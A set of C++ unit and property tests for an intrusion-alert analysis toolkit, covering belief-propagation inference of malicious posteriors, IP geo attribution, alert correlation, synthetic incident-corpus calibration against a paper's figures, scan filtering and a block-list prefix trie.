  small.add_variable(2);
  small.add_factor({0}, {std::log(0.25), std::log(0.75)});
  graph = std::move(small);  // shrink in place; engine still bound to `graph`
  inc.sync();
  EXPECT_EQ(inc.stats().full_rebuilds, before + 1);
  const BpResult full = run_bp(graph);
  EXPECT_LE(max_divergence(inc, full), kGate);
}

TEST(IncrementalBp, UnsyncedQueriesThrow) {
  const auto graph = two_var_chain();
  IncrementalBp inc(graph);
  std::vector<double> out;
  EXPECT_THROW(inc.marginal(99, out), std::out_of_range);
  EXPECT_THROW(static_cast<void>(inc.map_state(99)), std::out_of_range);
  EXPECT_THROW(inc.invalidate_factor(99), std::out_of_range);
}

// Loopy entity graphs: incremental residual scheduling must land on the
// same fixed point as flooding run_bp (both damped, both run tight).
class IncrementalLoopyEntity : public ::testing::TestWithParam<int> {};

TEST_P(IncrementalLoopyEntity, MatchesFloodingFixedPoint) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 409 + 3);
  std::vector<AlertType> observed;
  const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_int(0, 6));
  for (std::size_t i = 0; i < n; ++i) observed.push_back(random_type(rng));
  const FactorGraph graph = build_entity_graph(model(), observed);

  BpOptions opts;
  opts.damping = 0.3;
  opts.tolerance = kTightTol;
  opts.max_iterations = 4 * n + 200;
  const BpResult full = run_bp(graph, opts);
  ASSERT_TRUE(full.converged);

  IncrementalBp inc(graph, opts);
  ASSERT_TRUE(inc.stats().converged);
  EXPECT_LE(max_divergence(inc, full), kGate);
}

INSTANTIATE_TEST_SUITE_P(Seeds, IncrementalLoopyEntity, ::testing::Range(0, 8));

// ---------------------------------------------------------------------------
// EntityBatchBp: the batched multi-entity engine must reproduce
// infer_entity (full graph rebuild + flooding loopy BP) per alert.

// Near-critical couplings mix slowly: at 1e-12 some instances need a few
// hundred sweeps (flooding) / tens of thousands of pops (residual), so the
// oracle runs both sides with generous effort bounds.
BpOptions tight_entity_opts(std::size_t n) {
  BpOptions opts;
  opts.tolerance = 1e-12;
  opts.max_iterations = 4 * n + 4000;
  return opts;
}

class EntityIncrementalOracle : public ::testing::TestWithParam<int> {};

TEST_P(EntityIncrementalOracle, PerAlertPosteriorsMatchInferEntity) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 67 + 29);
  EntityBpOptions eopts;
  // 1e-13 sits below the cancellation-noise floor of the U-belief running
  // sum, so the schedule cannot always drain that far; 1e-12 converges and
  // still leaves three orders of magnitude under the 1e-9 gate.
  eopts.tolerance = 1e-12;
  eopts.max_iterations = 5000;
  EntityBatchBp engine(compiled(), eopts);

  std::vector<AlertType> observed;
  const std::size_t steps = 2 + static_cast<std::size_t>(rng.uniform_int(4, 14));
  for (std::size_t i = 0; i < steps; ++i) {
    const AlertType type = random_type(rng);
    observed.push_back(type);
    const auto& post = engine.observe(7, type);
    ASSERT_TRUE(post.converged);
    const EntityResult full =
        infer_entity(model(), observed, 1.0, tight_entity_opts(observed.size()));
    ASSERT_TRUE(full.converged);
    EXPECT_NEAR(post.p_malicious, full.p_malicious, kGate) << "step " << i;
    for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
      EXPECT_NEAR(post.last_stage[s], full.last_stage[s], kGate) << "step " << i;
    }
  }
  EXPECT_EQ(engine.history(7), steps);
  EXPECT_EQ(engine.stats().events, steps);
}

INSTANTIATE_TEST_SUITE_P(Seeds, EntityIncrementalOracle, ::testing::Range(0, 10));

TEST(EntityBatchBp, IndependentEntitiesDoNotInterfere) {
  util::Rng rng(4242);
  EntityBpOptions eopts;
  eopts.tolerance = 1e-12;
  eopts.max_iterations = 2000;
  EntityBatchBp interleaved(compiled(), eopts);
  EntityBatchBp solo(compiled(), eopts);

  std::vector<std::vector<AlertType>> per_entity(5);
  for (std::size_t step = 0; step < 60; ++step) {
    const auto id = static_cast<EntityBatchBp::EntityId>(rng.uniform_int(0, 4));
    const AlertType type = random_type(rng);
    per_entity[id].push_back(type);
    interleaved.observe(id, type);
  }
  for (std::size_t id = 0; id < per_entity.size(); ++id) {
    double expect = 0.5;
    for (const AlertType type : per_entity[id]) {
      expect = solo.observe(static_cast<EntityBatchBp::EntityId>(id + 100), type).p_malicious;
    }
    if (per_entity[id].empty()) {
      EXPECT_EQ(interleaved.posterior(id), nullptr);
      continue;
    }
    ASSERT_NE(interleaved.posterior(id), nullptr);
    EXPECT_NEAR(interleaved.posterior(id)->p_malicious, expect, kGate);
  }
}

TEST(EntityBatchBp, BatchMatchesSequentialFinalPosteriors) {
  util::Rng rng(99);
  EntityBpOptions eopts;
  eopts.tolerance = 1e-12;
  eopts.max_iterations = 2000;
  EntityBatchBp sequential(compiled(), eopts);
  EntityBatchBp batched(compiled(), eopts);

  std::vector<EntityBatchBp::Update> updates;
  for (std::size_t i = 0; i < 48; ++i) {
    updates.push_back({static_cast<EntityBatchBp::EntityId>(rng.uniform_int(0, 7)),
                       random_type(rng)});
  }
  for (const auto& u : updates) sequential.observe(u.entity, u.type);
  batched.observe_batch(updates);

  EXPECT_EQ(batched.tracked(), sequential.tracked());
  for (EntityBatchBp::EntityId id = 0; id < 8; ++id) {
    const auto* a = sequential.posterior(id);
    const auto* b = batched.posterior(id);
    ASSERT_EQ(a == nullptr, b == nullptr);
    if (a == nullptr) continue;
    EXPECT_EQ(a->events, b->events);
    EXPECT_NEAR(a->p_malicious, b->p_malicious, 1e-7);
    for (std::size_t s = 0; s < alerts::kNumStages; ++s) {
      EXPECT_NEAR(a->last_stage[s], b->last_stage[s], 1e-7);
    }
  }
}

TEST(EntityBatchBp, EraseAndClear) {
  EntityBatchBp engine(compiled());
  engine.observe(1, AlertType::kPortScan);
  engine.observe(2, AlertType::kLoginSuccess);
  EXPECT_EQ(engine.tracked(), 2u);
  engine.erase(1);
  EXPECT_EQ(engine.posterior(1), nullptr);
  EXPECT_EQ(engine.tracked(), 1u);
  engine.clear();
  EXPECT_EQ(engine.tracked(), 0u);
  EXPECT_EQ(engine.posterior(2), nullptr);
}

TEST(EntityBatchBp, MaliciousPosteriorTracksAttackContent) {
  EntityBatchBp engine(compiled());
  double benign = 0.0;
  for (int i = 0; i < 6; ++i) {
    benign = engine.observe(0, AlertType::kJobSubmitted).p_malicious;
  }
  double attack = 0.0;
  const AlertType campaign[] = {AlertType::kPortScan, AlertType::kSshBruteforce,
                                AlertType::kDownloadSensitive, AlertType::kCompileSource,
                                AlertType::kNewBinaryExecuted, AlertType::kC2Communication};
  for (const AlertType type : campaign) attack = engine.observe(1, type).p_malicious;
  EXPECT_GT(attack, benign);
  EXPECT_GT(attack, 0.5);
}

}  // namespace
}  // namespace at::fg
