// Geo/ASN attribution, alert lift (Remark 2 quantified), the cross-monitor
// correlator, and the auto-scaling policy.

#include <gtest/gtest.h>

#include "analysis/lift.hpp"
#include "incidents/noise.hpp"
#include "net/geo.hpp"
#include "testbed/autoscaler.hpp"
#include "testbed/correlator.hpp"

namespace at {
namespace {

// --- GeoDb ---

TEST(GeoDb, Fig1ScannerAttribution) {
  // The paper: "the mass scanner's IP address 103.102 ... indicating a
  // cloud provider from Indonesia".
  net::GeoDb geo;
  const auto origin = geo.lookup(net::Ipv4(103, 102, 47, 9));
  ASSERT_TRUE(origin.has_value());
  EXPECT_EQ(origin->country, "ID");
  EXPECT_EQ(origin->asn_name, "cloud-provider");
}

TEST(GeoDb, LongestPrefixWins) {
  net::GeoDb geo;
  // 45.155.204.0/24 (bulletproof) is nested under no broader 45/8 entry,
  // but add one and confirm the /24 still wins.
  geo.add(net::Cidr(net::Ipv4(45, 0, 0, 0), 8), {"XX", "broad"});
  const auto origin = geo.lookup(net::Ipv4(45, 155, 204, 7));
  ASSERT_TRUE(origin.has_value());
  EXPECT_EQ(origin->asn_name, "bulletproof-hosting");
  // Elsewhere in 45/8 the broad entry answers.
  EXPECT_EQ(geo.lookup(net::Ipv4(45, 1, 1, 1))->asn_name, "broad");
}

TEST(GeoDb, UnknownSpaceIsNullopt) {
  net::GeoDb geo;
  EXPECT_FALSE(geo.lookup(net::Ipv4(203, 0, 113, 1)).has_value());
}

TEST(GeoDb, InternalSpaceIsNcsa) {
  net::GeoDb geo;
  EXPECT_EQ(geo.lookup(net::Ipv4(141, 142, 5, 5))->asn_name, "ncsa");
}

// --- lift ---

TEST(LiftTest, CriticalAlertsHaveHugeLiftScansNearOne) {
  incidents::CorpusConfig config;
  config.repetition_scale = 0.02;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  // Normal-condition side: a sampled day of background alerts (Fig 2).
  incidents::DailyNoiseModel noise;
  const auto day = noise.sample_month(0, 1);
  const auto background = noise.materialize_day(day[0], 20'000);
  const auto table = analysis::measure_lift(corpus, background);
  ASSERT_EQ(table.rows.size(), alerts::kNumAlertTypes);
  // Rows are in descending lift.
  for (std::size_t i = 1; i < table.rows.size(); ++i) {
    EXPECT_GE(table.rows[i - 1].lift, table.rows[i].lift);
  }
  // Remark 2 / Insight 4: a critical alert is (near-)certain evidence.
  const auto* privesc = table.find(alerts::AlertType::kPrivilegeEscalation);
  ASSERT_NE(privesc, nullptr);
  EXPECT_GT(privesc->lift, 5.0);
  EXPECT_EQ(privesc->benign_count, 0u);
  // Benign operations appear overwhelmingly legitimately.
  const auto* login = table.find(alerts::AlertType::kJobSubmitted);
  ASSERT_NE(login, nullptr);
  EXPECT_LT(login->lift, 1.0);
  // Remark 2's core point: scans flood normal conditions too, so a scan
  // alert alone is a weak signal (lift near 1, nothing like the criticals).
  const auto* scan = table.find(alerts::AlertType::kPortScan);
  ASSERT_NE(scan, nullptr);
  EXPECT_LT(scan->lift, privesc->lift / 2.0);
}

TEST(LiftTest, CountsAddUp) {
  incidents::CorpusConfig config;
  config.repetition_scale = 0.01;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  const auto table = analysis::measure_lift(corpus);
  std::uint64_t attack = 0;
  std::uint64_t benign = 0;
  for (const auto& row : table.rows) {
    attack += row.attack_count;
    benign += row.benign_count;
  }
  EXPECT_EQ(attack, table.attack_alerts);
  EXPECT_EQ(benign, table.benign_alerts);
  EXPECT_EQ(attack + benign, corpus.stats.filtered_alerts);
}

// --- correlator ---

TEST(CorrelatorTest, MergesCrossMonitorDuplicates) {
  alerts::BufferSink sink;
  testbed::AlertCorrelator correlator({.window = 30}, sink);
  alerts::Alert osquery_view;
  osquery_view.ts = 100;
  osquery_view.type = alerts::AlertType::kFileDroppedTmp;
  osquery_view.host = "pg-0";
  osquery_view.origin = alerts::Origin::kOsquery;
  correlator.on_alert(osquery_view);
  // auditd sees the same execve two seconds later.
  auto auditd_view = osquery_view;
  auditd_view.ts = 102;
  auditd_view.origin = alerts::Origin::kAuditd;
  correlator.on_alert(auditd_view);
  EXPECT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(correlator.merged(), 1u);
  // Outside the window it is a new event.
  auditd_view.ts = 200;
  correlator.on_alert(auditd_view);
  EXPECT_EQ(sink.alerts().size(), 2u);
}

TEST(CorrelatorTest, DifferentHostsOrTypesPassThrough) {
  alerts::BufferSink sink;
  testbed::AlertCorrelator correlator({.window = 30}, sink);
  alerts::Alert alert;
  alert.ts = 1;
  alert.type = alerts::AlertType::kFileDroppedTmp;
  alert.host = "a";
  correlator.on_alert(alert);
  alert.host = "b";
  correlator.on_alert(alert);
  alert.host = "a";
  alert.type = alerts::AlertType::kSshKeyTheft;
  correlator.on_alert(alert);
  EXPECT_EQ(sink.alerts().size(), 3u);
  EXPECT_EQ(correlator.merged(), 0u);
}

// --- autoscaler ---

TEST(AutoScalerTest, ScalesOnCapturePressure) {
  testbed::VmManager vms;
  vms.provision_entry_points(0);
  testbed::AlertPipeline pipeline(testbed::PipelineConfig{}, nullptr);
  testbed::AutoScalerConfig config;
  config.capture_pressure_threshold = 0.2;
  config.step = 4;
  testbed::AutoScaler scaler(config, vms, pipeline);
  // No pressure: no scaling.
  EXPECT_EQ(scaler.tick(10), 0u);
  // Mark a quarter of the fleet as capturing attacks.
  for (std::uint32_t id = 1; id <= 4; ++id) vms.mark_capturing(id);
  EXPECT_EQ(scaler.tick(20), 4u);
  EXPECT_EQ(vms.instances().size(), 20u);
  EXPECT_EQ(scaler.scale_events(), 1u);
}

TEST(AutoScalerTest, ScalesOnNotificationBurst) {
  testbed::VmManager vms;
  vms.provision_entry_points(0);
  bhr::BlackHoleRouter router;
  testbed::AlertPipeline pipeline(testbed::PipelineConfig{}, &router);
  pipeline.add_detector("critical", [] {
    return std::make_unique<detect::CriticalAlertDetector>();
  });
  testbed::AutoScalerConfig config;
  config.notification_burst = 3;
  testbed::AutoScaler scaler(config, vms, pipeline);
  // Three pages on three hosts within the window.
  alerts::Alert alert;
  alert.type = alerts::AlertType::kPrivilegeEscalation;
  for (int i = 0; i < 3; ++i) {
    alert.ts = 10 + i;
    alert.host = "h" + std::to_string(i);
    pipeline.on_alert(alert);
  }
  EXPECT_GT(scaler.tick(60), 0u);
}

TEST(AutoScalerTest, RespectsFleetCeiling) {
  testbed::LifecycleConfig lifecycle;
  lifecycle.entry_points = 16;
  lifecycle.max_instances = 18;
  testbed::VmManager vms(lifecycle);
  vms.provision_entry_points(0);
  testbed::AlertPipeline pipeline(testbed::PipelineConfig{}, nullptr);
  testbed::AutoScalerConfig config;
  config.capture_pressure_threshold = 0.0;  // always under pressure
  config.step = 10;
  testbed::AutoScaler scaler(config, vms, pipeline);
  EXPECT_EQ(scaler.tick(1), 2u);  // ceiling allows only 2 more
  EXPECT_EQ(scaler.tick(2), 0u);
}

}  // namespace
}  // namespace at
