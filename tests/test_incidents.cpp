// The incident corpus: catalog calibration against every number in the
// paper, generator output properties, filtering, and annotation.

#include <gtest/gtest.h>

#include <set>

#include "analysis/similarity.hpp"
#include "incidents/annotate.hpp"
#include "incidents/generator.hpp"
#include "incidents/noise.hpp"
#include "net/cidr.hpp"

namespace at::incidents {
namespace {

// Fast corpus shared across tests in this file.
const Corpus& small_corpus() {
  static const Corpus corpus = [] {
    CorpusConfig config;
    config.repetition_scale = 0.02;  // keep timelines small for unit tests
    return CorpusGenerator(config).generate();
  }();
  return corpus;
}

TEST(CatalogTest, PaperAggregates) {
  Catalog catalog;
  // "more than 200 security incidents" - the 60.08% figure implies 228.
  EXPECT_EQ(catalog.total_incidents(), 228u);
  // "found in 60.08% (137 out of more than 200) of past security incidents"
  EXPECT_EQ(catalog.motif_incidents(), 137u);
  EXPECT_NEAR(static_cast<double>(catalog.motif_incidents()) /
                  static_cast<double>(catalog.total_incidents()),
              0.6008, 0.0005);
  // Insight 4: 19 unique critical alerts occurring 98 times.
  EXPECT_EQ(catalog.critical_occurrences(), 98u);
  EXPECT_EQ(catalog.distinct_critical_types(), 19u);
  // "common alert sequences (name from S1 to S43)"
  EXPECT_EQ(catalog.size(), 43u);
}

TEST(CatalogTest, NamesRankedByFrequency) {
  Catalog catalog;
  EXPECT_EQ(catalog.at(0).name, "S1");
  // "the most frequent attack pattern (S1) has been seen 14 times"
  EXPECT_EQ(catalog.at(0).frequency, 14u);
  for (std::size_t i = 1; i < catalog.size(); ++i) {
    EXPECT_GE(catalog.at(i - 1).frequency, catalog.at(i).frequency);
    EXPECT_EQ(catalog.at(i).name, "S" + std::to_string(i + 1));
  }
}

TEST(CatalogTest, LengthsSpanTwoToFourteen) {
  Catalog catalog;
  std::size_t min_len = 999;
  std::size_t max_len = 0;
  for (const auto& seq : catalog.sequences()) {
    min_len = std::min(min_len, seq.alerts.size());
    max_len = std::max(max_len, seq.alerts.size());
  }
  EXPECT_EQ(min_len, 2u);
  EXPECT_EQ(max_len, 14u);
}

TEST(CatalogTest, MotifFlagMatchesContent) {
  Catalog catalog;
  const auto motif = Catalog::motif();
  for (const auto& seq : catalog.sequences()) {
    EXPECT_EQ(analysis::is_subsequence(motif, seq.alerts), seq.has_motif) << seq.name;
  }
}

TEST(CatalogTest, SequencesAreDistinct) {
  Catalog catalog;
  std::set<std::vector<alerts::AlertType>> seen;
  for (const auto& seq : catalog.sequences()) {
    EXPECT_TRUE(seen.insert(seq.alerts).second) << "duplicate sequence " << seq.name;
  }
}

TEST(CatalogTest, CriticalAlertsOnlyAtTheEnd) {
  // Insight 4: critical alerts appear late; in our catalog they are always
  // in the final position(s) of a sequence.
  Catalog catalog;
  for (const auto& seq : catalog.sequences()) {
    bool seen_critical = false;
    for (const auto type : seq.alerts) {
      if (alerts::is_critical(type)) {
        seen_critical = true;
      } else {
        EXPECT_FALSE(seen_critical) << seq.name << " has non-critical after critical";
      }
    }
  }
}

TEST(GeneratorTest, CorpusMatchesCatalogAggregates) {
  const auto& corpus = small_corpus();
  EXPECT_EQ(corpus.stats.incidents, 228u);
  EXPECT_EQ(corpus.stats.motif_incidents, 137u);
  EXPECT_EQ(corpus.stats.critical_occurrences, 98u);
}

TEST(GeneratorTest, RawVolumeIsTwentyFiveMillion) {
  // Table I: 25M alerts pre-filtering (Poisson-distributed, ~0.1% tolerance).
  const auto& corpus = small_corpus();
  EXPECT_NEAR(static_cast<double>(corpus.stats.raw_alerts), 25.0e6, 0.1e6);
}

TEST(GeneratorTest, DeterministicForSameSeed) {
  CorpusConfig config;
  config.repetition_scale = 0.01;
  const auto a = CorpusGenerator(config).generate();
  const auto b = CorpusGenerator(config).generate();
  ASSERT_EQ(a.incidents.size(), b.incidents.size());
  for (std::size_t i = 0; i < a.incidents.size(); ++i) {
    EXPECT_EQ(a.incidents[i].start, b.incidents[i].start);
    EXPECT_EQ(a.incidents[i].timeline.size(), b.incidents[i].timeline.size());
  }
  EXPECT_EQ(a.stats.raw_alerts, b.stats.raw_alerts);
}

TEST(GeneratorTest, DifferentSeedsDiffer) {
  CorpusConfig a_config;
  a_config.repetition_scale = 0.01;
  CorpusConfig b_config = a_config;
  b_config.seed = 4242;
  const auto a = CorpusGenerator(a_config).generate();
  const auto b = CorpusGenerator(b_config).generate();
  EXPECT_NE(a.incidents[0].start, b.incidents[0].start);
}

TEST(GeneratorTest, IncidentsSortedAndWithinStudyPeriod) {
  const auto& corpus = small_corpus();
  const auto t2002 = util::to_sim_time(util::CivilDate{2002, 1, 1});
  const auto t2025 = util::to_sim_time(util::CivilDate{2025, 1, 1});
  util::SimTime prev = 0;
  for (const auto& incident : corpus.incidents) {
    EXPECT_GE(incident.start, prev);
    EXPECT_GE(incident.start, t2002);
    EXPECT_LT(incident.start, t2025);
    EXPECT_GE(incident.end, incident.start - util::kDay);  // window noise precedes
    prev = incident.start;
  }
}

TEST(GeneratorTest, CoreSequenceMatchesCatalogExactly) {
  const auto& corpus = small_corpus();
  for (const auto& incident : corpus.incidents) {
    const auto& expected = corpus.catalog.at(incident.sequence_id).alerts;
    EXPECT_EQ(incident.core_sequence(), expected) << "incident " << incident.id;
  }
}

TEST(GeneratorTest, TimelinesAreTimeOrdered) {
  const auto& corpus = small_corpus();
  for (const auto& incident : corpus.incidents) {
    for (std::size_t i = 1; i < incident.timeline.size(); ++i) {
      EXPECT_LE(incident.timeline[i - 1].alert.ts, incident.timeline[i].alert.ts);
    }
  }
}

TEST(GeneratorTest, DamageTsIsFirstCritical) {
  const auto& corpus = small_corpus();
  std::size_t with_damage = 0;
  for (const auto& incident : corpus.incidents) {
    std::optional<util::SimTime> first;
    for (const auto& entry : incident.timeline) {
      if (entry.alert.critical()) {
        first = entry.alert.ts;
        break;
      }
    }
    EXPECT_EQ(incident.damage_ts, first);
    if (first) ++with_damage;
  }
  // 96 incident instantiations carry a critical tail (98 occurrences, one
  // sequence has two criticals with frequency 2).
  EXPECT_EQ(with_damage, 96u);
}

TEST(GeneratorTest, GroundTruthIsPopulated) {
  const auto& corpus = small_corpus();
  for (const auto& incident : corpus.incidents) {
    EXPECT_FALSE(incident.truth.compromised_user.empty());
    EXPECT_FALSE(incident.truth.compromised_hosts.empty());
    // Attacker is not inside NCSA's block.
    EXPECT_FALSE(net::blocks::ncsa16().contains(incident.truth.attacker));
  }
}

TEST(GeneratorTest, AmbiguousFractionIsSmall) {
  // Section II-A: only ~0.3% of alerts need expert annotation. At reduced
  // repetition scale the fraction is larger; assert the full-scale ratio.
  CorpusConfig config;  // full repetitions
  const auto corpus = CorpusGenerator(config).generate();
  const double fraction = static_cast<double>(corpus.stats.ambiguous_alerts) /
                          static_cast<double>(corpus.stats.filtered_alerts);
  EXPECT_GT(fraction, 0.0005);
  EXPECT_LT(fraction, 0.01);
  // Table I: ~191K filtered alerts.
  EXPECT_NEAR(static_cast<double>(corpus.stats.filtered_alerts), 191'000.0, 8'000.0);
}

TEST(IncidentTest, AttackTypeSetSortedUnique) {
  const auto& corpus = small_corpus();
  const auto set = corpus.incidents[0].attack_type_set();
  for (std::size_t i = 1; i < set.size(); ++i) EXPECT_LT(set[i - 1], set[i]);
}

TEST(IncidentTest, CoreContains) {
  const auto& corpus = small_corpus();
  for (const auto& incident : corpus.incidents) {
    const bool has_motif = corpus.catalog.at(incident.sequence_id).has_motif;
    EXPECT_EQ(incident.core_contains(Catalog::motif()), has_motif);
    EXPECT_TRUE(incident.core_contains({}));  // empty pattern always matches
  }
}

// --- ScanFilter ---

TEST(ScanFilterTest, DropsRepeatsWithinWindow) {
  ScanFilter filter(100);
  alerts::Alert probe;
  probe.type = alerts::AlertType::kPortScan;
  probe.src = net::Ipv4(9, 9, 9, 9);
  probe.ts = 0;
  EXPECT_TRUE(filter.keep(probe));
  probe.ts = 50;
  EXPECT_FALSE(filter.keep(probe));
  probe.ts = 150;  // window elapsed
  EXPECT_TRUE(filter.keep(probe));
  EXPECT_EQ(filter.seen(), 3u);
  EXPECT_EQ(filter.dropped(), 1u);
}

TEST(ScanFilterTest, DistinctSourcesIndependent) {
  ScanFilter filter(100);
  alerts::Alert a;
  a.type = alerts::AlertType::kPortScan;
  a.src = net::Ipv4(1, 1, 1, 1);
  alerts::Alert b = a;
  b.src = net::Ipv4(2, 2, 2, 2);
  EXPECT_TRUE(filter.keep(a));
  EXPECT_TRUE(filter.keep(b));
}

TEST(ScanFilterTest, ExecutionStageAlwaysPasses) {
  ScanFilter filter(1000);
  alerts::Alert alert;
  alert.type = alerts::AlertType::kDownloadSensitive;
  alert.src = net::Ipv4(1, 1, 1, 1);
  for (int i = 0; i < 5; ++i) {
    alert.ts = i;
    EXPECT_TRUE(filter.keep(alert));
  }
  EXPECT_EQ(filter.dropped(), 0u);
}

TEST(ScanFilterTest, AchievesPaperReductionScale) {
  // 25M -> 191K is a ~130x reduction; on a synthetic repeated-scan stream
  // the filter must achieve a comparable order of suppression.
  ScanFilter filter(util::kHour);
  alerts::Alert probe;
  probe.type = alerts::AlertType::kSshBruteforce;
  probe.src = net::Ipv4(9, 9, 9, 9);
  std::size_t kept = 0;
  for (int i = 0; i < 10000; ++i) {
    probe.ts = i * 30;  // every 30s for ~3.5 days
    if (filter.keep(probe)) ++kept;
  }
  EXPECT_LT(kept, 100u);
  EXPECT_GT(kept, 0u);
}

// --- Annotation pipeline ---

TEST(AnnotationTest, SplitMatchesPaper) {
  const auto& corpus = small_corpus();
  const AnnotationPipeline pipeline;
  const auto result = pipeline.annotate(corpus);
  EXPECT_EQ(result.total, corpus.stats.filtered_alerts);
  EXPECT_EQ(result.expert, corpus.stats.ambiguous_alerts);
  // "A majority of alerts (99.7%) have been automatically annotated" — at
  // unit-test scale the repetition volume is reduced, so allow 95%+.
  EXPECT_GT(result.auto_fraction(), 0.90);
  EXPECT_EQ(result.expert_correct, result.expert);
  EXPECT_GT(result.auto_malicious, 0u);
  EXPECT_GT(result.auto_benign, 0u);
}

TEST(AnnotationTest, ClassifyRules) {
  AnnotationPipeline pipeline;
  LabeledAlert entry;
  entry.alert.type = alerts::AlertType::kLoginSuccess;
  entry.attack_related = false;
  EXPECT_EQ(pipeline.classify(entry), AnnotationMethod::kAutoBenign);
  entry.attack_related = true;  // stolen-credential login
  EXPECT_EQ(pipeline.classify(entry), AnnotationMethod::kExpert);
  entry.alert.type = alerts::AlertType::kDownloadSensitive;
  EXPECT_EQ(pipeline.classify(entry), AnnotationMethod::kAutoMalicious);
  entry.attack_related = false;  // legitimate user compiling
  EXPECT_EQ(pipeline.classify(entry), AnnotationMethod::kExpert);
}

// --- Daily noise model (Fig 2) ---

TEST(NoiseModelTest, MonthMatchesPaperMoments) {
  DailyNoiseModel model;
  // A 365-day sample pins the moments tightly; Fig 2's month is a view.
  const auto days = model.sample_month(0, 365);
  util::OnlineStats stats;
  for (const auto& day : days) stats.add(static_cast<double>(day.total));
  EXPECT_NEAR(stats.mean(), 94'238.0, 4'000.0);
  EXPECT_NEAR(stats.stddev(), 23'547.0, 4'000.0);
}

TEST(NoiseModelTest, ScansDominate) {
  // Insight 3: ~80K of 94K daily alerts are repeated scans.
  DailyNoiseModel model;
  for (const auto& day : model.sample_month(0, 30)) {
    EXPECT_EQ(day.total, day.repeated_scans + day.benign_ops + day.other);
    EXPECT_GT(static_cast<double>(day.repeated_scans) / static_cast<double>(day.total), 0.7);
  }
}

TEST(NoiseModelTest, MaterializeRespectsBudgetAndOrder) {
  DailyNoiseModel model;
  const auto days = model.sample_month(0, 1);
  const auto alerts = model.materialize_day(days[0], 500);
  EXPECT_EQ(alerts.size(), 500u);
  for (std::size_t i = 1; i < alerts.size(); ++i) {
    EXPECT_LE(alerts[i - 1].ts, alerts[i].ts);
  }
  for (const auto& alert : alerts) {
    EXPECT_GE(alert.ts, days[0].day_start);
    EXPECT_LT(alert.ts, days[0].day_start + util::kDay);
    EXPECT_FALSE(alert.critical());  // background noise is never critical
  }
}

TEST(NoiseModelTest, DeterministicPerDay) {
  DailyNoiseModel model;
  const auto days = model.sample_month(0, 1);
  const auto a = model.materialize_day(days[0], 50);
  const auto b = model.materialize_day(days[0], 50);
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts, b[i].ts);
    EXPECT_EQ(a[i].type, b[i].type);
  }
}

}  // namespace
}  // namespace at::incidents

namespace at::incidents {
namespace {

TEST(GeneratorTest, ParallelGenerationIsBitIdentical) {
  // Incidents draw from forked per-incident RNG streams, so synthesis is
  // thread-count invariant.
  CorpusConfig serial_config;
  serial_config.repetition_scale = 0.01;
  serial_config.threads = 1;
  CorpusConfig parallel_config = serial_config;
  parallel_config.threads = 4;
  const auto serial = CorpusGenerator(serial_config).generate();
  const auto parallel = CorpusGenerator(parallel_config).generate();
  ASSERT_EQ(serial.incidents.size(), parallel.incidents.size());
  for (std::size_t i = 0; i < serial.incidents.size(); ++i) {
    ASSERT_EQ(serial.incidents[i].start, parallel.incidents[i].start);
    ASSERT_EQ(serial.incidents[i].sequence_id, parallel.incidents[i].sequence_id);
    ASSERT_EQ(serial.incidents[i].timeline.size(), parallel.incidents[i].timeline.size());
    for (std::size_t j = 0; j < serial.incidents[i].timeline.size(); ++j) {
      ASSERT_EQ(serial.incidents[i].timeline[j].alert.ts,
                parallel.incidents[i].timeline[j].alert.ts);
      ASSERT_EQ(serial.incidents[i].timeline[j].alert.type,
                parallel.incidents[i].timeline[j].alert.type);
    }
  }
  EXPECT_EQ(serial.stats.raw_alerts, parallel.stats.raw_alerts);
  EXPECT_EQ(serial.stats.ambiguous_alerts, parallel.stats.ambiguous_alerts);
}

}  // namespace
}  // namespace at::incidents
