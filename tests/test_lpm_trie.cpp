// LpmTrie unit + randomized property tests.
//
// The property oracle is deliberately structure-free: a recorded list of
// mutations, where blocked(ip) replays every mutation containing ip in
// order (last writer wins, clear_matching conditional on the current
// word). Random traces mix host writes, nested/adjacent prefix covers at
// every level the trie distinguishes (L1 ranges, L2 ranges, leaf
// sub-ranges), clears, and TTL reaps; sampled probes concentrate on cover
// boundaries where off-by-one bugs live.

#include <gtest/gtest.h>

#include <cstdint>
#include <vector>

#include "bhr/lpm_trie.hpp"
#include "net/cidr.hpp"
#include "util/epoch.hpp"
#include "util/rng.hpp"

namespace at {
namespace {

using bhr::LpmTrie;

constexpr std::uint64_t kPerm = LpmTrie::kPermanent;

bool word_blocked(std::uint64_t word, util::SimTime now) {
  return word == kPerm || (word != 0 && static_cast<util::SimTime>(word) > now);
}

// --- structure-free oracle -------------------------------------------------

struct Mutation {
  enum class Kind { kSetHost, kSetPrefix, kClearMatching } kind;
  net::Cidr cidr;  ///< /32 for kSetHost
  std::uint64_t enc = 0;
};

class MutationLog {
 public:
  void set_host(std::uint32_t ip, std::uint64_t enc) {
    ops_.push_back({Mutation::Kind::kSetHost, net::Cidr(net::Ipv4(ip), 32), enc});
  }
  void set_prefix(const net::Cidr& cidr, std::uint64_t enc) {
    ops_.push_back({Mutation::Kind::kSetPrefix, cidr, enc});
  }
  void clear_matching(const net::Cidr& cidr, std::uint64_t enc) {
    ops_.push_back({Mutation::Kind::kClearMatching, cidr, enc});
  }

  [[nodiscard]] std::uint64_t word(net::Ipv4 ip) const {
    std::uint64_t w = 0;
    for (const Mutation& op : ops_) {
      if (!op.cidr.contains(ip)) continue;
      switch (op.kind) {
        case Mutation::Kind::kSetHost:
        case Mutation::Kind::kSetPrefix:
          w = op.enc;
          break;
        case Mutation::Kind::kClearMatching:
          if (w == op.enc) w = 0;
          break;
      }
    }
    return w;
  }

  [[nodiscard]] const std::vector<Mutation>& ops() const { return ops_; }

 private:
  std::vector<Mutation> ops_;
};

// --- unit tests ------------------------------------------------------------

TEST(LpmTrie, HostWordsBlockAndExpireAndClear) {
  LpmTrie trie;
  util::EpochGuard guard(trie.domain());
  const std::uint32_t ip = net::Ipv4(203, 0, 113, 7).value();
  EXPECT_FALSE(trie.lookup(ip, 0));
  trie.set_host(ip, 100);  // TTL word: blocked strictly before t=100
  EXPECT_TRUE(trie.lookup(ip, 99));
  EXPECT_FALSE(trie.lookup(ip, 100));
  trie.set_host(ip, kPerm);
  EXPECT_TRUE(trie.lookup(ip, 1'000'000));
  EXPECT_TRUE(trie.set_host(ip, 0));
